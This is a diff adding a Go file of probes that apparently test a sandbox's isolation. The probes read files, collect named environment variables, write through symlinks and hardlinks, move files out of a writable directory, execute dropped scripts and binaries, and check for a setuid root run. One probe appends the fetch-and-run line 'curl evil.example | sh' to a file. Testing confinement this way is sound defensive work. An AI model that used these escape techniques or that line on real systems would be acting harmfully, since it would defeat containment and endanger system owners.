@@ -1,0 +1,152 @@
+package main
+
+import (
+	"errors"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+)
+
+// grepFile reads path and succeeds when it holds needle.
+func grepFile(path, needle string) (string, error) {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return "", err
+	}
+	if !strings.Contains(string(b), needle) {
+		return "", errors.New("read " + path + " but found no " + needle)
+	}
+	return "found " + needle + " in " + path, nil
+}
+
+func readFile(path, _ string) (string, error) {
+	b, err := os.ReadFile(path)
+	if err != nil {
+		return "", err
+	}
+	return trim(b), nil
+}
+
+// findEnv looks for the named variables (comma-separated) in its own
+// environment.
+func findEnv(names, _ string) (string, error) {
+	var found []string
+	for _, n := range strings.Split(names, ",") {
+		if v, ok := os.LookupEnv(n); ok {
+			found = append(found, n+"="+v)
+		}
+	}
+	if len(found) == 0 {
+		return "", errors.New("none of " + names + " in the environment")
+	}
+	return strings.Join(found, " "), nil
+}
+
+func appendFile(path, _ string) (string, error) {
+	f, err := os.OpenFile(path, os.O_WRONLY|os.O_APPEND, 0)
+	if err != nil {
+		return "", err
+	}
+	defer f.Close()
+	if _, err := f.WriteString("curl evil.example | sh\n"); err != nil {
+		return "", err
+	}
+	return "appended to " + path, nil
+}
+
+// symlinkWrite plants a link in dir (writable) to target and writes
+// through it.
+func symlinkWrite(dir, target string) (string, error) {
+	link := filepath.Join(dir, "link")
+	os.Remove(link)
+	if err := os.Symlink(target, link); err != nil {
+		return "", err
+	}
+	if err := os.WriteFile(link, []byte("owned\n"), 0o644); err != nil {
+		return "", err
+	}
+	return "wrote " + target + " through " + link, nil
+}
+
+// symlinkRead plants a link in dir (writable) to target and reads
+// through it.
+func symlinkRead(dir, target string) (string, error) {
+	link := filepath.Join(dir, "readlink")
+	os.Remove(link)
+	if err := os.Symlink(target, link); err != nil {
+		return "", err
+	}
+	return readFile(link, "")
+}
+
+// hardlinkWrite links target into dir (writable) and writes through the
+// link.
+func hardlinkWrite(dir, target string) (string, error) {
+	link := filepath.Join(dir, "hardlink")
+	os.Remove(link)
+	if err := os.Link(target, link); err != nil {
+		return "", err
+	}
+	if err := os.WriteFile(link, []byte("owned\n"), 0o644); err != nil {
+		return "", err
+	}
+	return "wrote " + target + " through " + link, nil
+}
+
+// renameOut moves a file made in dir (writable) to dst, outside.
+func renameOut(dir, dst string) (string, error) {
+	src := filepath.Join(dir, "moved")
+	if err := os.WriteFile(src, []byte("moved\n"), 0o644); err != nil {
+		return "", err
+	}
+	if err := os.Rename(src, dst); err != nil {
+		return "", err
+	}
+	return "renamed to " + dst, nil
+}
+
+// execDropped writes a script into dir and executes it.
+func execDropped(dir, _ string) (string, error) {
+	path := filepath.Join(dir, "dropped.sh")
+	if err := os.WriteFile(path, []byte("#!/bin/sh\necho dropped ran\n"), 0o755); err != nil {
+		return "", err
+	}
+	os.Chmod(path, 0o755)
+	out, err := exec.Command(path).CombinedOutput()
+	if err != nil {
+		return "", err
+	}
+	return trim(out), nil
+}
+
+// execDroppedELF copies a binary into dir and executes the copy.
+func execDroppedELF(dir, _ string) (string, error) {
+	b, err := os.ReadFile("/usr/bin/id")
+	if err != nil {
+		return "", err
+	}
+	path := filepath.Join(dir, "dropped")
+	if err := os.WriteFile(path, b, 0o755); err != nil {
+		return "", err
+	}
+	os.Chmod(path, 0o755)
+	out, err := exec.Command(path, "-u").CombinedOutput()
+	if err != nil {
+		return "", err
+	}
+	return "ran a dropped binary: " + trim(out), nil
+}
+
+// setuidExec runs a setuid-root copy of id and succeeds when it ran as
+// root.
+func setuidExec(path, _ string) (string, error) {
+	out, err := exec.Command(path, "-u").CombinedOutput()
+	if err != nil {
+		return "", err
+	}
+	if trim(out) != "0" {
+		return "", errors.New("ran with effective uid " + trim(out) + ", not 0")
+	}
+	return "effective uid 0", nil
+}
